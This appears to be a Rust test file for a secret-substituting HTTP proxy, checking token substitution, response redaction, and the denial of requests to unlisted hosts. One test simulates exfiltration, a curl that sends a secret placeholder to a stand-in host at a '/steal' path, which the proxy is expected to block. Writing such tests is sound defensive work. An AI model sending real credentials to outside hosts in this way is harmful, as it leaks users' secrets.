//! Plain-HTTP requests in absolute form.

use warrant_proxy::ProxyEvent;

use crate::support::{Harness, Options, PLAIN_TOKEN};

#[tokio::test]
async fn plain_http_is_substituted_and_redacted() {
    let h = Harness::start().await;
    let ph = h.placeholder("plain/token").to_owned();
    let out = h
        .curl(&[
            "-H",
            &format!("X-Token: {ph}"),
            "--data-binary",
            &format!("t={ph}"),
            &format!("http://plain.example.test/p?t={ph}"),
        ])
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let seen = h.plain.seen.last();
    assert_eq!(seen["headers"]["x-token"], PLAIN_TOKEN);
    assert_eq!(seen["headers"]["host"], "plain.example.test");
    assert_eq!(seen["path"], format!("/p?t={PLAIN_TOKEN}"));
    assert_eq!(seen["body"], format!("t={PLAIN_TOKEN}"));
    assert!(!out.body.contains(PLAIN_TOKEN), "{out:?}");
    assert!(out.body.contains("<redacted:plain/token>"), "{out:?}");
}

#[tokio::test]
async fn plain_http_placeholder_for_another_host_is_blocked() {
    let h = Harness::with(Options {
        passthrough: true,
        ..Options::default()
    })
    .await;
    let ph = h.placeholder("plain/token").to_owned();
    let out = h
        .curl(&["-H", &format!("X-Token: {ph}"), "http://plain-free.test/p"])
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert_eq!(h.plain.seen.connections(), 0);
    assert!(
        matches!(&h.events()[..], [ProxyEvent::Blocked { host, .. }] if host == "plain-free.test")
    );
    // Without a placeholder, passthrough forwards it.
    let out = h.curl(&["http://plain-free.test/ok"]).await;
    assert_eq!(out.status, 200, "{out:?}");
}

#[tokio::test]
async fn plain_http_to_other_hosts_is_denied_without_passthrough() {
    let h = Harness::start().await;
    let out = h.curl(&["http://plain-free.test/p"]).await;
    assert_eq!(out.status, 403, "{out:?}");
    assert_eq!(h.plain.seen.connections(), 0);
    assert!(
        matches!(&h.events()[..], [ProxyEvent::Denied { host, .. }] if host == "plain-free.test")
    );
}

#[tokio::test]
async fn plain_http_placeholder_to_a_denied_host_is_an_exfiltration_attempt() {
    let h = Harness::start().await;
    let ph = h.placeholder("plain/token").to_owned();
    let out = h
        .curl(&[&format!("http://plain-free.test/steal?t={ph}")])
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert_eq!(h.plain.seen.connections(), 0);
    assert!(
        matches!(
            &h.events()[..],
            [ProxyEvent::Blocked { host, secrets, reason, .. }]
                if host == "plain-free.test"
                    && secrets == &["plain/token".to_owned()]
                    && reason.starts_with("exfiltration attempt")
        ),
        "{:?}",
        h.events()
    );
}
